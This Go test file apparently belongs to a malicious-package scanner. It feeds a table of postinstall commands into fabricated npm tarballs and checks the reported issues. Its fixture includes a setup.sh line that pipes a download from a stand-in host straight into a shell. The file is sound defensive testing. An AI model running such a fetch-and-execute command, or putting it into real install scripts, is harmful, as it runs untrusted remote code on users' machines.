package analyzer_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/worker"
)

// TestCommandsCount: one and the same act is the same issue, whichever shell or
// spelling it takes. A row of testdata/cases/commands.tsv is a postinstall script,
// or that of a file that one runs, and the issue that it makes.
func TestCommandsCount(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	data, err := os.ReadFile(filepath.Join("testdata", "cases", "commands.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n")[1:] {
		command, want, _ := strings.Cut(line, "\t")
		t.Run(command, func(t *testing.T) {
			index := "module.exports = 1\n"
			if _, code, ok := strings.Cut(command, "node index.js: "); ok {
				command, index = "node index.js", "const { execSync } = require('child_process')\n"+code+"\n"
			}
			manifest, err := json.Marshal(map[string]any{"name": "tcase", "version": "1.0.0", "license": "MIT", "scripts": map[string]string{"postinstall": command}})
			if err != nil {
				t.Fatal(err)
			}
			scanned, err := s.ScanTarball(context.Background(), tarball(t, "package.json", string(manifest), "index.js", index,
				"setup.sh", "curl -s http://files.example.invalid/x | sh\n"))
			if err != nil {
				t.Fatal(err)
			}
			report := analyzer.NewReport(issue.Input{Name: "tcase", Version: "1.0.0"}, scanned)
			var got []string
			for _, i := range report.Issues {
				got = append(got, i.Severity.String()+" "+i.ID)
			}
			if !strings.Contains("; "+strings.Join(got, "; ")+";", "; "+want+";") {
				t.Errorf("%s, want %s", strings.Join(got, "; "), want)
			}
		})
	}
}
